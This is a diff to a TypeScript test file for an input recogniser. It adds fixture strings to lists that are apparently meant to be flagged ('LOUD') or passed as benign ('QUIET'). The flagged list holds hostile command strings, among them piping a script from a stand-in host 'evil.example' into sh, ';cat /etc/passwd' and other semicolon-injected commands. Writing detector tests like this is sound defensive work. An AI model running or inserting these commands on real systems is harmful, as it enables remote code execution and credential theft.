@@ -7,6 +7,7 @@ import { recognise } from '../support/field.ts';
 type Row = [text: string, overrides: Partial<Field>];
 
 const LOUD: Row[] = [
+  ['| `id` |', { location: 'query' }],
   ['`curl http://evil.example/x | sh`', {}],
   [';cat /etc/passwd', {}],
   ['; ls -la', {}],
@@ -62,6 +63,8 @@ const LOUD: Row[] = [
 ];
 
 const QUIET: Row[] = [
+  ['  - "npm install coveralls@2 && cat coverage/lcov.info | coveralls"\nmatrix:', { location: 'body' }],
+  ['| `env`     | Universal `process.env` (works across all runtimes)  |', { location: 'query' }],
   ['# Use `curl http://localhost/x | sh` and {{name}}', { location: 'body' }],
   ['Install: `curl -fsSL https://get.example.com/install.sh | sh`.', { location: 'body' }],
   ['Tom & Jerry', {}],
